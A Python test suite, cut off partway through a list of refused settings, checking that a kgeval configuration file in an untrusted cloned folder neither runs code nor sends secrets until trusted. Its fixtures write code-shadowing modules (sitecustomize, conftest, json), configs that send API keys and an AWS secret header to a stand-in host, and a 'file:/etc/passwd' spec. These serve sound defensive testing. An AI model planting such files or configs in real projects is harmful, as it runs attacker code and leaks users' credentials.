"""A folder that a stranger wrote: no command runs its code or sends a secret to an address of its choice, until it is trusted."""

from __future__ import annotations

import json
import os
import re
import shlex
import socket
import socketserver
import stat
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, get_args

import click
import pytest

import kgeval
from kgeval.cli.main import COMMANDS, cli, run
from kgeval.config import Config, Section, load, look_up, read
from kgeval.config.flags import Power
from kgeval.config.powers import BUILT_IN_SYSTEMS, deeds_of, names_folder, power_of
from kgeval.config.trust import ConfigFile, trust_folder, trusted_files
from kgeval.errors import ConfigError, ModelError, ServerError, UsageError
from kgeval.llm.batch.store import Store
from kgeval.systems.builtin.tools import NEEDS
from kgeval.systems.spec import parse_spec

SECRETS = {
    "OPENAI_API_KEY": "sk-secret-of-the-user", "NEO4J_PASSWORD": "password-of-the-user", "AWS_SECRET_ACCESS_KEY": "aws-of-the-user",
    "AURA_CLIENT_ID": "aura-id-of-the-user", "AURA_CLIENT_SECRET": "aura-secret-of-the-user",
}
STRANGER = "stranger.example"  # a name that leads to the test's own server
# what a script or an import finds first where the folder is on Python's path
SHADOWS = ("json", "click", "kgeval_plugin", "pydantic", "openai", "neo4j", "sitecustomize", "conftest", "torch")
CODE = """
from pathlib import Path
Path({marker!r}).touch()
import kgeval

@kgeval.metric
def f(row):
    return 1.0
"""
ROWS = [{"question_id": f"q{n}", "question": f"Who was {n}?", "answer": "Ann", "reference": "Ann Lee"} for n in range(3)]


@dataclass
class World:
    """The stranger's folder, the file that its code would touch, and what the stranger's server got."""

    folder: Path
    marker: Path
    port: int
    received: list[bytes] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://{STRANGER}:{self.port}/v1"

    def write(self, text: str) -> None:
        Path("kgeval.toml").write_text(textwrap.dedent(text), encoding="utf-8")

    def is_unharmed(self) -> bool:
        return not self.marker.exists() and not self.leaked()

    def leaked(self) -> list[str]:
        got = b"".join(self.received)
        return [name for name, secret in SECRETS.items() if secret.encode() in got]


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    folder = tmp_path / "cloned"
    folder.mkdir()
    monkeypatch.chdir(folder)
    for name in [name for name in os.environ if name.startswith(("NEO4J_", "OPENAI_", "KGEVAL_SCORE"))]:
        monkeypatch.delenv(name)
    for name, secret in SECRETS.items():
        monkeypatch.setenv(name, secret)
    resolve = socket.getaddrinfo
    monkeypatch.setattr(socket, "getaddrinfo", lambda host, *rest, **more: resolve(
        "127.0.0.1" if host in (STRANGER, STRANGER.encode()) else host, *rest, **more,
    ))
    received: list[bytes] = []

    class Listener(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            self.request.settimeout(1)
            received.append(self.request.recv(65_536))
            self.request.sendall(b"HTTP/1.1 401 no\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Listener) as server:
        server.daemon_threads = True
        import threading

        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        made = World(folder, tmp_path / "the code has run", server.server_address[1], received)
        _fill(made)
        yield made
        server.shutdown()


def _fill(world: World) -> None:
    """The rest of the folder: code under many names, and files that commands read."""
    code = CODE.format(marker=str(world.marker))
    Path("evil.py").write_text(code)
    for name in SHADOWS:
        Path(f"{name}.py").write_text(code)
    # a model by the name of the default one, and of a pipeline
    for folder in ("all-MiniLM-L6-v2", "sentence-transformers/all-MiniLM-L6-v2", "en_core_web_sm", "roberta-large"):
        Path(folder).mkdir(parents=True)
        Path(folder, "config.json").write_text("{}")
        Path(folder, "modules.json").write_text('[{"idx": 0, "name": "0", "path": "", "type": "evil.Evil"}]')
        Path(folder, "evil.py").write_text(code)
    Path(".env").write_text(f"OPENAI_BASE_URL={world.url}\nNEO4J_URI=bolt://{STRANGER}:{world.port}\n")
    Path("matplotlibrc").write_text("backend: module://evil\ntext.usetex: True\n")
    Path("answers.jsonl").write_text("".join(json.dumps(row) + "\n" for row in ROWS))
    Path("questions.jsonl").write_text("".join(json.dumps({"id": row["question_id"], "question": row["question"]}) + "\n" for row in ROWS))
    Path("report.json").write_text("{}")
    Path("text.txt").write_text("Ann Lee built the mill of Velmouth. Ben Orr owns it.")
    Path("layout.toml").write_text('name = "x"\nextends = "generic"\n')


def hostile(world: World) -> dict[str, str]:
    """Files that would run code; that would send secrets; that would do everything."""
    models = "".join(
        f'[model.{role}]\nname = "m"\nbase_url = "{world.url}"\n' for role in ("judge", "reader", "generator", "extractor", "embedding")
    )
    code = f"""
        [metrics]
        names = ["evil.py:f", "evil:f", "token_f1"]
        [contamination]
        metric = "evil.py:f"
        [[systems]]
        name = "run"
        spec = "command:{sys.executable} evil.py"
    """
    addresses = f"""
        [graph]
        uri = "bolt://{STRANGER}:{world.port}"
        [[systems]]
        name = "web"
        spec = "http:{world.url}"
        settings = {{ request = {{ q = "{{{{question}}}}" }}, headers = {{ X = "${{AWS_SECRET_ACCESS_KEY}}" }} }}
    """
    beside = """
        [questions]
        file = "questions.jsonl"
        [answers]
        files = ["answers.jsonl"]
    """
    files = {"code": code + beside, "addresses": addresses + beside, "all": code + addresses + beside + "[graph.session]\nuse = true\n"}
    return {name: textwrap.dedent(text) + ("" if name == "code" else models) for name, text in files.items()}


WORDS: dict[str, str] = {
    "docs": "text.txt", "path": "text.txt", "before": "report.json", "after": "report.json", "file": "questions.jsonl",
    "files": "questions.jsonl", "questions": "questions.jsonl", "answers": "answers.jsonl", "scores": "answers.jsonl", "runs": ".",
    "folder": ".", "labels": "answers.jsonl", "sheets": "answers.jsonl", "parts": "answers.jsonl", "graphs": "g", "ids": "1",
    "rule_id": "rare-type", "key": "0", "topic": "answer",
}
OWN_WORDS: dict[str, list[str]] = {
    "layout check": ["layout.toml"], "layout show": ["generic"], "cypher run": ["rare-type"], "cypher show": ["rare-type"],
    "questions profiles": ["law"], "metrics show": ["evil.py:f"], "schema check": ["layout", "report.json"], "schema show": ["layout"],
    "system index": ["lightrag", "--documents", "text.txt", "--folder", "index"], "system show": ["lightrag"],
    "system remove": ["lightrag", "--yes"], "system install": ["lightrag", "--python", "./no-such-python"],
    "annotate sheet": ["answers.jsonl", "-o", "sheets", "--key", "key.json"], "annotate read": ["answers.jsonl", "-o", "labels.jsonl"],
    "stats drift": ["answers.jsonl", "--anchors", "answers.jsonl"], "init": [".", "-o", "other.toml"], "trust": ["--list"],
    "run": [], "server remove": ["--yes"], "cache clear": ["--all", "--yes"], "import": ["text.txt", "--as", "triples", "--graph", "g"],
    "compare": ["answers.jsonl", "--questions", "questions.jsonl"], "audit": [],
}


def all_commands(command: click.Command = cli, path: tuple[str, ...] = ()) -> Iterator[tuple[str, click.Command]]:
    if not isinstance(command, click.Group):
        yield " ".join(path), command
        return
    for name in COMMANDS if command is cli else command.commands:
        inner = command.get_command(click.Context(command), name)
        assert inner is not None
        yield from all_commands(inner, (*path, name))
    if path and command.invoke_without_command:
        yield " ".join(path), command


def words_of(name: str, command: click.Command) -> list[str]:
    """A plausible line of the command, without a word of configuration."""
    if name in OWN_WORDS:
        return OWN_WORDS[name]
    words = [WORDS[str(argument.name)] for argument in command.params if isinstance(argument, click.Argument)]
    required = [option for option in command.params if isinstance(option, click.Option) and option.required]
    return [*words, *(word for option in required for word in (option.opts[-1], "g"))]


@pytest.fixture
def no_server(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """No embedded server is started, and no package installed."""
    def refuse(*_: object, **__: object) -> None:
        raise ServerError("not in this test")

    monkeypatch.setattr("kgeval.graph.server.ensure_started", refuse)
    monkeypatch.setattr("kgeval.graph.server.lifecycle.start", refuse)
    monkeypatch.setattr("kgeval.graph.server.start", refuse)
    monkeypatch.setenv("KGEVAL_HOME", str(tmp_path / "home"))


LINES = {name: words_of(name, command) for name, command in all_commands()}


@pytest.mark.long
@pytest.mark.usefixtures("no_server")
@pytest.mark.parametrize("what", ["code", "addresses"])
def test_no_command_runs_the_strangers_code_or_sends_a_secret(
    what: str, world: World, capfd: pytest.CaptureFixture[str],
) -> None:
    assert len(LINES) > 60
    refused = []
    for name, words in LINES.items():
        world.write(hostile(world)[what])
        code = run([*name.split(), *words])
        told = capfd.readouterr()
        assert world.is_unharmed(), (name, words, world.leaked())
        assert "Traceback" not in told.err, (name, told.err)
        if "neither named nor trusted" in told.err + told.out:
            assert code == 2
            refused.append(name)
    # whatever reads the file is refused, and nothing else is
    reads = {name for name, command in all_commands() if any(option.name == "config_file" for option in command.params)}
    assert set(refused) == reads - {"metrics list", "metrics show", "merge-shards"}, "the last looks at its parts first"


@pytest.mark.long
@pytest.mark.usefixtures("no_server")
def test_nor_does_one_where_the_file_itself_says_nothing_of_it(world: World, capfd: pytest.CaptureFixture[str]) -> None:
    """The code lies about: under names of Python's own modules, of models, of settings of libraries."""
    world.write('[answers]\nfiles = ["answers.jsonl"]\n[metrics]\nnames = ["token_f1"]\n')
    more = {
        "score": ["--executor", "local", "--workers", "2", "-o", "s.jsonl", "-o", "s.html"],
        "questions check": ["--check", "duplicate"], "completeness": ["--ideal", "text.txt", "--ideal-extractor", "spacy"],
    }
    for name, words in LINES.items():
        run([*name.split(), *words, *more.get(name, [])])
        told = capfd.readouterr()
        assert world.is_unharmed(), (name, words, world.leaked())
        assert "neither named nor trusted" not in told.err, (name, told.err)
        assert "Traceback" not in told.err, (name, told.err)
    assert Path("s.jsonl").is_file() and Path("out/run/report.html").is_file(), "a run without any of that just works"


@pytest.mark.long
def test_the_installed_command_does_not_either(world: World) -> None:
    """With the path that Python gives to it: `kgeval`, and a worker that it starts."""
    world.write(hostile(world)["all"])
    kgeval_command = str(Path(sys.executable).with_name("kgeval"))
    for start in ([kgeval_command], [sys.executable, "-m", "kgeval"]):
        for line in ("metrics list", "score answers.jsonl"):
            done = subprocess.run([*start, *shlex.split(line)], capture_output=True, text=True, check=False)
            assert done.returncode == (0 if "list" in line else 2), done.stderr
    world.write("")
    done = subprocess.run(
        [kgeval_command, *shlex.split("score answers.jsonl --metrics token_f1 --executor local -o s.jsonl -o s.html")],
        capture_output=True, text=True, check=False,
    )
    assert done.returncode == 0, done.stderr
    assert world.is_unharmed()


@pytest.mark.slow
def test_where_it_was_named_the_code_runs_and_the_key_is_sent(world: World, capsys: pytest.CaptureFixture[str]) -> None:
    """The other tests see what they look for."""
    world.write('[metrics]\nnames = ["evil.py:f"]\n')
    assert run(["score", "answers.jsonl", "-c", "kgeval.toml", "-q"]) == 0 and world.marker.exists()
    world.marker.unlink()
    world.write(f'[metrics]\nnames = ["faithfulness"]\n[model.judge]\nname = "m"\nbase_url = "{world.url}"\n')
    Path("answers.jsonl").write_text(json.dumps({**ROWS[0], "contexts": ["Ann Lee was 0."]}) + "\n")
    assert run(["score", "answers.jsonl", "-q", "--no-progress"]) == 2 and world.is_unharmed()
    assert run(["score", "answers.jsonl", "-q", "--no-progress", "-c", "kgeval.toml"]) == 2
    assert world.leaked() == ["OPENAI_API_KEY"]
    told = capsys.readouterr().err
    assert f"model.judge.base_url: sends what models are asked, and OPENAI_API_KEY, to {world.url}" in told


@pytest.mark.parametrize("name", ["KGEVAL_SCORE_CONFIG", "-c"])
def test_a_variable_of_the_environment_names_it_too(name: str, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    world.write('[metrics]\nnames = ["evil.py:f"]\n')
    assert run(["score", "answers.jsonl", "-q"]) == 2 and world.is_unharmed()
    if name == "-c":
        assert run(["score", "answers.jsonl", "-q", "-c", "./kgeval.toml"]) == 0
    else:
        monkeypatch.setenv(name, "kgeval.toml")
        assert run(["score", "answers.jsonl", "-q"]) == 0
    assert world.marker.exists()


def test_python_keeps_to_the_same_rule(world: World) -> None:
    world.write('[answers]\nfiles = ["answers.jsonl"]\n[metrics]\nnames = ["evil.py:f"]\n')
    for call in (
        lambda: kgeval.score("answers.jsonl"), kgeval.run, lambda: kgeval.run(dry_run=True), kgeval.connect, kgeval.audit,
        lambda: kgeval.score(ROWS, metrics="token_f1"),
    ):
        with pytest.raises(ConfigError, match="neither named nor trusted") as caught:
            call()
        assert "metrics.names: runs the code of evil.py:f" in str(caught.value)
    assert world.is_unharmed()
    assert kgeval.score(ROWS, metrics="token_f1", config=False).exit_code == 0 and world.is_unharmed()
    assert kgeval.score(ROWS, config="kgeval.toml").exit_code == 0 and world.marker.exists()


@pytest.mark.long
@pytest.mark.parametrize(("named", "outcome"), [(False, "errors=1"), (True, "passed=1")])
def test_fixtures_of_pytest_read_it_where_the_settings_name_it(world: World, named: bool, outcome: str) -> None:
    world.write('[metrics]\nnames = ["evil.py:f"]\n')
    Path("conftest.py").unlink()
    for name in SHADOWS:
        Path(f"{name}.py").unlink(missing_ok=True)
    Path("test_it.py").write_text(f"def test_it(kgeval_score):\n    kgeval_score({ROWS!r})\n")
    Path("pytest.ini").write_text(f"[pytest]\n{'kgeval_config = kgeval.toml' if named else ''}\n")
    done = subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "test_it.py"], capture_output=True, text=True, check=False,
    )
    what, number = outcome.split("=")
    assert f"{number} {what.removesuffix('s') if what == 'errors' else what}" in done.stdout, done.stdout
    assert named or "neither named nor trusted" in done.stdout
    assert world.marker.exists() is named


# trusting


def test_what_is_trusted_works_until_it_changes(world: World, capsys: pytest.CaptureFixture[str]) -> None:
    line = ["score", "answers.jsonl", "-q"]
    world.write('[metrics]\nnames = ["evil.py:f"]\n')
    assert run(line) == 2
    told = capsys.readouterr().err
    for part in ("kgeval.toml was found here", "metrics.names: runs the code of evil.py:f", "kgeval trust kgeval.toml", "--config FILE"):
        assert part in told
    assert run(["trust"]) == 0 and world.is_unharmed(), "to trust is not to run"
    said = capsys.readouterr().out
    assert "metrics.names: runs the code of evil.py:f" in said and "until one of these changes: kgeval.toml, evil.py" in said
    assert run(line) == 0 and world.marker.exists()
    world.marker.unlink()
    code = Path("evil.py").read_text()
    for path, text in (("kgeval.toml", Path("kgeval.toml").read_text() + "\n"), ("evil.py", code + "\n")):
        before = Path(path).read_text()
        Path(path).write_text(text)
        assert run(line) == 2 and world.is_unharmed(), f"{path} has changed"
        assert [state for _, state in trusted_files()] == ["changed"]
        Path(path).write_text(before)
        assert run(line) == 0, "as it was trusted"
        world.marker.unlink(missing_ok=True)
    assert run(["trust", "--revoke"]) == 0 and run(line) == 2 and world.is_unharmed()
    assert run(["trust", "--revoke"]) == 2 and trusted_files() == []


def test_what_is_trusted_is_the_owners_alone_and_listed(world: World, capsys: pytest.CaptureFixture[str]) -> None:
    world.write('[metrics]\nnames = ["evil.py:f"]\n')
    assert run(["trust", "./kgeval.toml"]) == 0
    entry, = trust_folder().iterdir()
    assert stat.S_IMODE(entry.stat().st_mode) == 0o600 and stat.S_IMODE(trust_folder().stat().st_mode) == 0o700
    capsys.readouterr()
    assert run(["trust", "--list"]) == 0 and capsys.readouterr().out == f"trusted  {world.folder / 'kgeval.toml'}\n"
    assert run(["trust"]) == 0 and len(list(trust_folder().iterdir())) == 1, "once is once"
    Path("kgeval.toml").unlink()
    capsys.readouterr()
    assert run(["trust", "--list"]) == 0 and capsys.readouterr().out.startswith("gone ")
    world.write('[metrics]\nnames = ["evil.py:f"]\nfaulty = 1\n')
    assert run(["trust"]) == 2 and "unknown key" in capsys.readouterr().err
    world.write('[metrics]\nnames = ["token_f1"]\n')
    assert run(["trust"]) == 0 and "it only computes" in capsys.readouterr().out
    assert run(["trust", "--list", "--revoke"]) == 2


def test_a_link_is_trusted_where_it_stands(world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What is mine and trusted there is not trusted in a stranger's folder, where its names mean other files."""
    mine = tmp_path / "mine"
    mine.mkdir()
    for name in ("evil.py", "answers.jsonl"):
        (mine / name).write_bytes(Path(name).read_bytes())
    (mine / "kgeval.toml").write_text('[metrics]\nnames = ["evil.py:f"]\n')
    Path("kgeval.toml").symlink_to(mine / "kgeval.toml")
    assert run(["trust", str(mine / "kgeval.toml")]) == 0
    assert run(["score", "answers.jsonl", "-q"]) == 2 and world.is_unharmed()
    monkeypatch.chdir(mine)
    assert run(["score", "answers.jsonl", "-q"]) == 0 and world.marker.exists()
    world.marker.unlink()
    monkeypatch.chdir(world.folder)
    assert run(["trust"]) == 0 and run(["score", "answers.jsonl", "-q"]) == 0
    Path("kgeval.toml").unlink()
    (mine / "moved.toml").write_bytes((mine / "kgeval.toml").read_bytes())
    Path("kgeval.toml").symlink_to(mine / "moved.toml")
    assert run(["score", "answers.jsonl", "-q"]) == 0, "the same bytes in the same place"
    (mine / "moved.toml").write_text('[metrics]\nnames = ["evil:f"]\n')
    assert run(["score", "answers.jsonl", "-q"]) == 2


def test_it_is_not_looked_for_in_the_folders_above(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    world.write('[metrics]\nnames = ["evil.py:f"]\n')
    below = world.folder / "below"
    below.mkdir()
    monkeypatch.chdir(below)
    assert load() == Config() and world.is_unharmed()


def test_what_is_judged_is_what_is_used(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """The file is read once: one that is put in its place while it is judged changes nothing."""
    world.write("[audit]\nexamples = 3\n")

    def swapped(*given: Any, **more: Any) -> Any:
        world.write('[metrics]\nnames = ["evil.py:f"]\n')
        return deeds_of(*given, **more)

    monkeypatch.setattr("kgeval.config.trust.deeds_of", swapped)
    assert load().metrics.names == [] and load_again_is_refused()


def load_again_is_refused() -> bool:
    with pytest.raises(ConfigError):
        load()
    return True


@pytest.mark.long
def test_workers_get_the_configuration_and_do_not_read_it_again(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    from kgeval.workflows.workers import run_local

    def swapped(*given: Any, **more: Any) -> Any:
        world.write('[metrics]\nnames = ["evil.py:f"]\n')
        return run_local(*given, **more)

    monkeypatch.setattr("kgeval.workflows.workers.run_local", swapped)
    world.write('[metrics]\nnames = ["token_f1"]\n[score]\nexecutor = "local"\nworkers = 1\n')
    assert run(["score", "answers.jsonl", "-q", "-o", "s.jsonl"]) == 0 and world.is_unharmed()


def test_init_writes_a_file_that_is_trusted(
    world: World, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("OPENAI_BASE_URL", world.url)
    assert run(["init", "--judge", "m"]) == 0
    monkeypatch.delenv("OPENAI_BASE_URL")
    found = ConfigFile.read(Path("kgeval.toml"))
    assert found.deeds and found.is_trusted(), capsys.readouterr()
    assert load().model.judge.base_url == world.url
    Path("kgeval.toml").write_bytes(Path("kgeval.toml").read_bytes() + b"#\n")
    with pytest.raises(ConfigError):
        load()


# look-ups


@pytest.mark.parametrize("trusted", [False, True])
def test_look_ups_run_nothing_trusted_or_not(trusted: bool, world: World, capsys: pytest.CaptureFixture[str]) -> None:
    world.write(hostile(world)["all"])
    assert not trusted or run(["trust"]) == 0
    capsys.readouterr()
    assert run(["metrics", "list", "--group", "own"]) == 0
    shown = capsys.readouterr().out
    assert "evil.py:f" in shown and "Not loaded: its code was not run." in shown and "token_f1" not in shown
    assert run(["metrics", "list", "-f", "json"]) == 0
    listed = json.loads(capsys.readouterr().out)["metrics"]
    assert {"name": "evil.py:f", "group": "own", "summary": "Not loaded: its code was not run."} in listed
    for words in (["show", "evil.py:f"], ["show", "evil.py:f", "-f", "json"], ["show", "evil:f"], ["show", "nothing.py:f"]):
        assert run(["metrics", *words]) == 0 and "its code was not run" in capsys.readouterr().out
    assert world.is_unharmed()


@pytest.mark.usefixtures("no_server")
def test_doctor_says_what_is_blocked(world: World, capsys: pytest.CaptureFixture[str]) -> None:
    world.write(hostile(world)["all"])
    assert run(["doctor"]) == 2
    told = capsys.readouterr().out
    assert "config      blocked: kgeval.toml was found here, and is neither named nor trusted" in told
    assert "kgeval trust kgeval.toml" in told
    assert world.is_unharmed()


# files beside the configuration


@pytest.mark.slow
def test_parts_of_a_stranger_run_nothing_when_they_are_put_together(world: World, capsys: pytest.CaptureFixture[str]) -> None:
    """A part names metrics and a configuration. Neither is the word of who puts them together."""
    world.write("")
    Path("theirs.toml").write_text('[metrics]\nnames = ["evil.py:f"]\n')
    line = ["score", "answers.jsonl", "-q", "--metrics", "token_f1,evil.py:f"]
    assert run([*line, "-o", "whole.jsonl", "-o", "whole.json"]) == 0
    for number in (1, 2):
        assert run([*line, "--shard", f"{number}/2", "-o", f"{number}.jsonl"]) == 0
        assert run([*line[:3], "-c", "theirs.toml", "--shard", f"{number}/2", "-o", f"c{number}.jsonl"]) == 0
    world.marker.unlink()
    capsys.readouterr()
    assert run(["merge-shards", "1.jsonl", "2.jsonl", "-q", "-o", "joined.jsonl"]) == 0, capsys.readouterr().err
    assert Path("joined.jsonl").read_bytes() == Path("whole.jsonl").read_bytes()
    assert run(["merge-shards", "c1.jsonl", "c2.jsonl", "-q", "-o", "c.jsonl"]) == 2
    assert "theirs.toml was found here, and is neither named nor trusted" in capsys.readouterr().err
    assert run(["merge-shards", "c1.jsonl", "c2.jsonl", "-q", "-o", "c.jsonl", "-c", "theirs.toml"]) == 0
    assert world.is_unharmed(), "also named: putting together computes nothing"


def test_a_journal_of_a_stranger_does_not_get_the_key(world: World, capsys: pytest.CaptureFixture[str]) -> None:
    with Store(Path("journal.sqlite")) as store:
        store.add(world.url, "m", "name", 1)
        store.created("name", "batch-1")
    assert run(["cache", "batches", "cancel", "--journal", "journal.sqlite"]) == 2
    told = capsys.readouterr().err
    assert world.url in told and "OPENAI_BASE_URL" in told and not world.received


@pytest.mark.parametrize("name", [
    "all-MiniLM-L6-v2", "sentence-transformers/all-MiniLM-L6-v2", "sentence-transformers/x", "roberta-large",
])
@pytest.mark.usefixtures("world")
def test_a_name_of_a_model_never_means_what_lies_here(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    from kgeval.llm import embed_sources

    monkeypatch.setattr(embed_sources, "PACKAGE", "no_such_package")
    Path("sentence-transformers/x").mkdir()
    with pytest.raises(ModelError, match="there is a file or folder of this name here"):
        embed_sources.local_model(name if "large" not in name else "sentence-transformers/x", None, 8)
    with pytest.raises(ModelError, match="there is a file or folder of this name here"):
        embed_sources.local_place(name)
    assert embed_sources.local_place("./roberta-large") == (str(Path("roberta-large").resolve()), True)


@pytest.mark.parametrize("uv", [None, "/usr/bin/uv"])
@pytest.mark.usefixtures("world")
def test_an_installation_takes_nothing_from_the_folder(uv: str | None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No venv.py or pip.py of the folder's, and no package index that a uv.toml names there."""
    from kgeval.systems.adapters import environment
    from kgeval.systems.adapters.catalog import adapter

    started: list[tuple[list[str], Any]] = []
    carry_out, which = subprocess.run, environment.shutil.which

    def recorded(argv: list[str], **how: Any) -> Any:
        started.append((argv, how.get("cwd")))
        if "venv" in argv or "pip" in argv:
            return subprocess.CompletedProcess(argv, 0, "", "")
        return carry_out(argv, **how) if argv[0] == sys.executable else subprocess.CompletedProcess(argv, 1, "", "")

    monkeypatch.setenv("KGEVAL_SYSTEMS_DIR", str(tmp_path / "systems"))
    monkeypatch.setattr(environment.shutil, "which", lambda name: uv if name == "uv" else which(name))
    monkeypatch.setattr(environment.subprocess, "run", recorded)
    with pytest.raises(UsageError, match="is not in its environment"):
        environment.install(adapter("lightrag"), python=sys.executable, say=lambda text: None)
    installers = [(argv, folder) for argv, folder in started if "install" in argv or "venv" in argv]
    assert len(installers) >= 2 and {folder for _, folder in installers} == {tmp_path / "systems"}
    assert all("-I" in argv for argv, _ in started if argv[0] != uv)


def test_a_configuration_reaches_a_worker_as_it_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("kgeval.toml").write_text(textwrap.dedent("""
        [graph.layout]
        extends = "generic"
        name_keys = ["title"]
        [audit]
        thresholds = { isolated-entity = { warning = 0.5, error = "<=6 hits" } }
        [[ignore]]
        rule = "rare-type"
        reason = "known"
        until = 2099-01-31
        [metrics]
        names = ["token_f1", "mine"]
        settings = { tau = 0.8 }
        [[metrics.criteria]]
        name = "mine"
        question = "?"
        grades = { 0 = "a", "0.5" = "b", 1 = "c" }
        [compare]
        no_force = true
        map = { answer = "text" }
        [model.judge]
        name = "m"
        parameters = { seed = 7 }
        [run]
        without_known = true
        [run.options.scores]
        trials = 2
    """))
    from kgeval.workflows.session import Session

    config = load()
    session = Session("score", config=config)
    came = Session.from_portable(json.loads(json.dumps(session.portable())), say=print)
    assert came.config == config and came.config.score.model_fields_set == config.score.model_fields_set
    assert came.config.compare.model_fields_set == config.compare.model_fields_set


# what a file can do


def deeds(text: str, *, owned: bool = True) -> list[str]:
    Path("kgeval.toml").write_text(textwrap.dedent(text), encoding="utf-8")
    found = ConfigFile.read(Path("kgeval.toml"))
    assert found.faults == [], found.faults
    return [deed.key for deed in deeds_of(found.config, Path.cwd(), owned=owned)]


REFUSED = [
    ("metrics.names", '[metrics]\nnames = ["a.py:f"]'), ("metrics.names", '[metrics]\nnames = ["a:f"]'),
    ("metrics.settings", '[metrics.settings]\nbertscore_model = "./m"'), ("score.metrics", '[score]\nmetrics = ["a.py:f"]'),
    ("contamination.metric", '[contamination]\nmetric = "a.py:f"'), ("score.ray_address", '[score]\nray_address = "ray://x"'),
    ("systems.0.spec", '[[systems]]\nname = "x"\nspec = "command:python a.py"'),
    ("systems.0.spec", '[[systems]]\nname = "x"\nspec = " y = command:a"'.replace(" y = ", "y=")),
    ("systems.0.spec", '[[systems]]\nname = "x"\nspec = "lightrag"'), ("systems.0.spec", '[[systems]]\nname = "x"\nspec = "https://x.org"'),
    ("systems.0.spec", '[[systems]]\nname = "x"\nspec = "http:https://x.org"'),
    ("systems.0.spec", '[[systems]]\nname = "x"\nspec = "file:/etc/passwd"'),
    ("systems.0.spec", '[[systems]]\nname = "x"\nspec = "http:http://127.0.0.1\\\\@x.org"'),
    ("systems.0.settings", '[[systems]]\nname = "x"\nspec = "http:http://localhost:1"\nsettings = {headers = {A = "x ${AWS_SECRET}"}}'),
    ("systems.0.settings", '[[systems]]\nname = "x"\nspec = "vector"\nsettings = {rerank = "./m"}'),
    ("systems.0.folder", '[[systems]]\nname = "x"\nspec = "vector"\nfolder = "index"'),
    ("ablations.0.values", '[[ablations]]\nsystem = "x"\nsetting = "rerank"\nvalues = ["no", "./m"]'),
    ("ablations.0.values", '[[ablations]]\nsystem = "x"\nsetting = "rerank"\nvalues = ["\\"\\\\u002e/m\\""]'),
    ("compare.systems", '[compare]\nsystems = ["a=command:x"]'),
    ("compare.settings", '[compare]\nsettings = ["a:headers.X=\\"\\\\u0024{S}\\""]'),
    ("compare.folders", '[compare]\nfolders = ["x"]'), ("graph.uri", '[graph]\nuri = "bolt://x.org"'),
    ("graph.uri", '[graph]\nuri = "neo4j+s://x.org"'), ("graph.session.use", "[graph.session]\nuse = true"),
    ("graph.layout", '[graph]\nlayout = "../layout.toml"'), ("model.judge.base_url", '[model.judge]\nbase_url = "http://x.org/v1"'),
    ("model.judge.base_url", '[model.judge]\nbase_url = "http://api.openai.com/v1"'),
    ("model.judge.base_url", '[model.judge]\nbase_url = "https://api.openai.com.x.org/v1"'),
    ("model.judge.base_url", '[model.judge]\nbase_url = "https://api.openai.com@x.org/v1"'),
    ("model.reader.base_url", '[model.reader]\nbase_url = "http://127.0.0.1.x.org/v1"'),
    ("model.embedding.base_url", '[model.embedding]\nbase_url = "http://localhost:80@x.org/v1"'),
    ("model.embedding.name", '[model.embedding]\nname = "./m"'), ("model.embedding.name", '[model.embedding]\nname = "a/b/c"'),
    ("matrix.readers.0.base_url", '[[matrix.readers]]\nname = "a"\nmodel = "m"\nbase_url = "http://x.org"'),
    ("matrix.datasets.0.layout", '[[matrix.datasets]]\nname = "a"\nlayout = "/layout.toml"'),
    ("matrix.datasets.0.documents", '[[matrix.datasets]]\nname = "a"\ndocuments = ["/etc"]'),
    ("matrix.variants.0.options.replace", '[[matrix.variants]]\nname = "a"\noptions = {replace = true}'),
    ("source.options.spacy_model", '[source]\noptions = {spacy_model = "./m"}'), ("source.documents", '[source]\ndocuments = ["../x"]'),
    ("source.options.replace-store", '[source]\noptions = {replace-store = true}'), ("build.replace", "[build]\nreplace = true"),
    ("build.remove", '[build]\nremove = ["a"]'), ("build.spacy_model", '[build]\nspacy_model = "models/x"'),
    ("build.schema_file", '[build]\nschema_file = "~/x.toml"'), ("questions.profile", '[questions]\nprofile = "/x.toml"'),
    ("questions.sheet", '[questions]\nsheet = "../x.csv"'), ("accuracy.sheet", '[accuracy]\nsheet = "/x.csv"'),
    ("contamination.marked", '[contamination]\nmarked = ".git/config"'),
    ("contamination.marked", '[contamination]\nmarked = "hidden/config"'),
    ("audit.write_ratchet", '[audit]\nwrite_ratchet = "out/../../x"'), ("report.outputs", '[report]\noutputs = ["/tmp/x.html"]'),
    ("report.outputs", '[report]\noutputs = ["link/x.html"]'), ("run.folder", '[run]\nfolder = "/out"'),
    ("run.without_known", '[run]\nwithout_known = "/x.json"'), ("score.write_back", "[score]\nwrite_back = true"),
    ("run.options.audit.home", '[run.options.audit]\nhome = "home"'), ("run.options.audit.uri", '[run.options.audit]\nuri = "bolt://x.org"'),
    ("run.options.audit.config", '[run.options.audit]\nconfig = "other.toml"'),
    ("run.options.audit.gds_session", "[run.options.audit]\ngds_session = true"),
    ("run.options.scores.journal", '[run.options.scores]\njournal = "/j.sqlite"'),
    ("run.options.scores.cache-dir", '[run.options.scores]\ncache-dir = ".cache"'),
    ("run.options.scores.base_url", '[run.options.scores]\nbase_url = "http://x.org"'),
    ("run.options.scores.embedding-url", '[run.options.scores]\nembedding-url = "http://x.org"'),
    ("run.options.scores.embedding_model", '[run.options.scores]\nembedding_model = "/m"'),
